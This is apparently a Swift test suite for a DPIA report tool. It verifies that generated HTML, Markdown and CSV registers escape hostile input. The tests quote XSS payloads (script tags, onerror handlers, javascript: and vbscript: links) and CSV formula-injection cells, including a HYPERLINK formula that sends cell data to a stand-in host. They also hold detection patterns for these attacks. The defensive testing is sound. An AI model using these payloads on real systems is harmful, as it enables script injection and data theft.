import DPIARender
import DPIATestSupport
import Foundation
import Testing

/// Reports, registers and diffs made from specs full of HTML, script, Markdown, template syntax and
/// spreadsheet formulas run no code in a reader's browser or spreadsheet, and keep their structure.
@Suite struct ReportSafetyTests {
    /// Valid corpus specs whose text tries to inject something, and a plain one to compare with.
    static let specs = [
        "inject-html-markdown-everywhere.yaml", "inject-markdown-table.yaml", "inject-mustache.yaml",
        "inject-csv-formula.yaml", "inject-csv-formula-hidden.yaml", "inject-markdown-reference.yaml",
        "valid-base.yaml",
    ]

    /// The reports and the register of ``specs``, written once for all tests.
    static let output: Result<URL, Error> = Result {
        let workspace = try Workspace("report-safety")
        for name in specs { try workspace.write("specs/\(name)", String(decoding: try Corpus.data(name), as: UTF8.self)) }
        let diff = [
            "diff", "specs/valid-base.yaml", "specs/inject-html-markdown-everywhere.yaml", "--allow-different",
            "--format",
        ]
        for command in [
            ["report", "specs", "--date", "2025-01-01"], ["register", "specs", "--date", "2025-01-01"],
            diff + ["html", "--out", "Output/diff.html"], diff + ["markdown", "--out", "Output/diff.md"],
        ] {
            let arguments = command.contains("--out") ? command : command + ["--out", "Output"]
            let result = try BuiltProgram.dpia.run(arguments, in: workspace.url)
            guard result.status == 0 else { throw Failure(description: "\(command): \(result.errors)") }
        }
        return workspace.url.appendingPathComponent("Output")
    }

    struct Failure: Error, CustomStringConvertible { let description: String }

    static func text(_ relative: String) throws -> String {
        try String(contentsOf: try output.get().appendingPathComponent(relative), encoding: .utf8)
    }

    /// The report folders: one per activity id.
    static let activities = [
        "injectie", "inject-markdown-table", "inject-mustache", "inject-csv-formula",
        "inject-csv-formula-hidden", "inject-markdown-reference", "hardening-base",
    ]

    // MARK: - HTML

    /// Every element of the HTML, as written: `<a href="...">`.
    static func tags(_ html: String) -> [Substring] {
        var tags: [Substring] = []
        var rest = html[...]
        while let open = rest.firstIndex(of: "<") {
            let after = rest.index(after: open)
            guard after < rest.endIndex, rest[after].isLetter, let close = rest[after...].firstIndex(of: ">") else {
                rest = rest[after...]
                continue
            }
            tags.append(rest[open...close])
            rest = rest[rest.index(after: close)...]
        }
        return tags
    }

    static func name(of tag: Substring) -> String {
        String(tag.dropFirst().prefix { $0.isLetter || $0.isNumber }).lowercased()
    }

    /// What the templates and cmark write; nothing else may appear.
    static let allowedElements: Set<String> = [
        "html", "head", "meta", "title", "style", "body", "header", "nav", "main", "section", "footer", "div", "span",
        "h1", "h2", "h3", "h4", "p", "br", "hr", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr",
        "th", "td", "caption", "a", "strong", "em", "code", "pre", "blockquote", "img", "small", "sup", "abbr",
        // The risk map of §16 (an inline SVG of rectangles and text).
        "svg", "rect", "text",
    ]

    static let htmlFiles = activities.map { "\($0)/dpia.html" } + ["register/register.html", "diff.html"]

    @Test(arguments: htmlFiles)
    func htmlHasOnlyOurElementsAndNoScript(_ file: String) throws {
        let tags = Self.tags(try Self.text(file))
        let unexpected = Set(tags.map(Self.name)).subtracting(Self.allowedElements)
        #expect(unexpected.isEmpty, "elements: \(unexpected.sorted())")
        for tag in tags {
            #expect(tag.range(of: #"\son[a-z]+\s*="#, options: [.regularExpression, .caseInsensitive]) == nil, "\(tag)")
            #expect(!tag.lowercased().contains("javascript:") && !tag.lowercased().contains("vbscript:"), "\(tag)")
        }
    }

    /// Links and images point inside the report, to the web, or nowhere (cmark's safe mode empties
    /// `javascript:` and `data:` links).
    @Test(arguments: htmlFiles)
    func htmlLinksAreSafe(_ file: String) throws {
        let html = try Self.text(file)
        let attributes = html.matches(of: /(?:href|src)="([^"]*)"/).map { String($0.output.1) }
        for value in attributes {
            let safe =
                value.isEmpty || value.hasPrefix("#") || value.hasPrefix("https://") || value.hasPrefix("http://")
                || value.hasPrefix("mailto:")
            #expect(safe, "\(file): \(value)")
        }
    }

    @Test func injectedTextIsShownAsText() throws {
        let html = try Self.text("injectie/dpia.html")
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;"))
        #expect(!html.contains("<script") && !html.contains("<iframe") && !html.contains("<img src=x"))
    }

    // MARK: - Markdown

    static let markdownFiles = activities.map { "\($0)/dpia.md" } + ["register/register.md", "diff.md"]

    /// True when the character before `index` is escaped by an odd number of backslashes.
    static func isEscaped(_ text: String, _ index: String.Index) -> Bool {
        var count = 0
        var position = index
        while position > text.startIndex {
            position = text.index(before: position)
            guard text[position] == "\\" else { break }
            count += 1
        }
        return count % 2 == 1
    }

    /// No raw HTML (a `<` that starts a tag) and no link to `javascript:`, `data:` or `vbscript:`:
    /// a Markdown viewer would run or follow them.
    @Test(arguments: markdownFiles)
    func markdownHasNoRawHTMLOrScriptLinks(_ file: String) throws {
        let markdown = try Self.text(file)
        for index in markdown.indices where markdown[index] == "<" && !Self.isEscaped(markdown, index) {
            let next = markdown.index(after: index)
            let opensTag = next < markdown.endIndex && (markdown[next].isLetter || "/!?".contains(markdown[next]))
            #expect(!opensTag, "\(file): \(markdown[index...].prefix(40))")
        }
        for match in markdown.matches(of: /\]\(\s*(javascript|data|vbscript):/.ignoresCase()) {
            #expect(Self.isEscaped(markdown, match.range.lowerBound), "\(file): \(markdown[match.range.lowerBound...].prefix(40))")
        }
    }

    /// A name full of `|` and Markdown stays inside its table cell: every row of a table has as many
    /// cell separators as its header.
    @Test func markdownTablesKeepTheirColumns() throws {
        let lines = try Self.text("inject-markdown-table/dpia.md").split(separator: "\n", omittingEmptySubsequences: false)
        func separators(_ line: Substring) -> Int {
            let text = String(line)
            return text.indices.filter { text[$0] == "|" && !Self.isEscaped(text, $0) }.count
        }
        var header: Int?
        var rows = 0
        for line in lines {
            guard line.hasPrefix("|") else { header = nil; continue }
            if let header {
                #expect(separators(line) == header, "\(line)")
                rows += 1
            } else {
                header = separators(line)
            }
        }
        #expect(rows > 10)
        #expect(lines.contains { $0.contains(#"\| kapot \| tabel \|"#) })
    }

    /// One `dpia.md` holds many prose fields, and a Markdown viewer reads it as one document: a link
    /// reference definition in one field (`[r]: javascript:…`) must not give a link to `[hier][r]` in
    /// another, and a code fence left open must not swallow the rest of the report.
    @Test(arguments: markdownFiles)
    func markdownFieldsCannotReachEachOther(_ file: String) throws {
        let lines = try Self.text(file).split(separator: "\n", omittingEmptySubsequences: false)
        // No line can define a link reference: `[label]: target` at the start of a line (up to 3 spaces).
        for line in lines {
            #expect(line.firstMatch(of: /^ {0,3}\[[^\]]+\]:/) == nil, "\(file): \(line)")
        }
        // Every fence is closed: code fences come in pairs, and the report's last heading is still a heading.
        let fences = lines.filter { $0.firstMatch(of: /^ {0,3}(```|~~~)/) != nil }
        #expect(fences.count % 2 == 0, "\(file): \(fences.count) fences")
        // No autolink or link to a script, written plainly.
        let text = try Self.text(file)
        for match in text.matches(of: /<(javascript|vbscript|data):/.ignoresCase()) {
            #expect(Self.isEscaped(text, match.range.lowerBound), "\(file): \(text[match.range.lowerBound...].prefix(40))")
        }
    }

    @Test func markdownReferenceAcrossFieldsIsText() throws {
        let markdown = try Self.text("inject-markdown-reference/dpia.md")
        #expect(markdown.contains(#"Klik \[hier\]\[r\] of \[daar\]\[s\] voor meer."#))
        #expect(markdown.contains("[javascript:alert(3)]() en [vbscript:msgbox(4)]()"))
        #expect(markdown.contains("```\neen codeblok dat nooit gesloten wordt\n```\n"))
        #expect(markdown.contains("```\nnog een open codeblok\n```\n"))
        #expect(markdown.contains(#"\<div\>een HTML-blok"#))
        #expect(!markdown.contains("javascript:alert(document.domain)") && !markdown.contains("alert(2)"))
        // The sections after the prose are still headings, outside any code block.
        #expect(markdown.contains("\n## B. "))
    }

    /// Mustache in a title is printed, not run: the report shows the braces.
    @Test func templateSyntaxInTextIsText() throws {
        #expect(
            try Self.text("inject-mustache/dpia.html")
                .contains("<h1>{{#activity}}{{{summary}}}{{/activity}} {{&gt; partial}} {{=&lt;% %&gt;=}}</h1>"))
        #expect(try Self.text("inject-mustache/dpia.md").contains(##"{{\#activity}}{{{summary}}}{{/activity}}"##))
    }

    // MARK: - CSV

    /// The cells of a semicolon-separated line (RFC 4180 quotes).
    static func cells(_ line: Substring) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var index = line.startIndex
        while index < line.endIndex {
            let character = line[index]
            if quoted {
                if character == "\"" {
                    let next = line.index(after: index)
                    if next < line.endIndex, line[next] == "\"" { cell.append("\""); index = next } else { quoted = false }
                } else {
                    cell.append(character)
                }
            } else if character == "\"" {
                quoted = true
            } else if character == ";" {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(character)
            }
            index = line.index(after: index)
        }
        return cells + [cell]
    }

    /// No cell of the register's CSV starts like a formula: a spreadsheet would run it. Spaces, a no-break
    /// space, a line break or a zero-width space before the `=` do not hide it.
    @Test func csvCellsNeverStartAFormula() throws {
        let csv = try Self.text("register/register.csv")
        let rows = csv.split(separator: "\r\n")
        #expect(rows.count == Self.specs.count + 1)
        let cells = rows.flatMap(Self.cells)
        for cell in cells {
            #expect(cell.hasPrefix("'") || !CSVWriter.startsFormula(cell), "\(cell)")
        }
        #expect(cells.contains("'=HYPERLINK(\"https://example.invalid/?\"&A1;\"klik\")"))
        #expect(cells.contains("'\t=1+1"))
        #expect(cells.contains("' =1+1"))
        #expect(cells.contains("'\u{A0}=HYPERLINK(\"https://example.invalid/\")"))
        #expect(cells.contains("'\n@SUM(1+1)"))
    }

    @Test func theFormulaGuardLooksPastInvisibleStarts() {
        for formula in [
            "=1", "+1", "-1", "@x", "\t1", "\r1", " =1+1", "\u{A0}=1", "\n=1", "\r\n=1", "\u{200B}@x",
            "\u{FEFF}=1", "\u{3000}-1", "\u{1}=1", "\u{FF1D}1",
        ] {
            #expect(CSVWriter.startsFormula(formula), "\(formula.unicodeScalars.map { String($0.value, radix: 16) })")
        }
        for text in ["", " ", "a=1", "12", "'=1", "Gemeente Utrecht", "x -1"] {
            #expect(!CSVWriter.startsFormula(text), "\(text)")
        }
        let writer = CSVWriter(separator: ",", lineEnd: "\n", byteOrderMark: false)
        #expect(writer.line([" =1+1", "a,b", "say \"hi\"", "\n@x"]) == "' =1+1,\"a,b\",\"say \"\"hi\"\"\",\"'\n@x\"")
    }
}
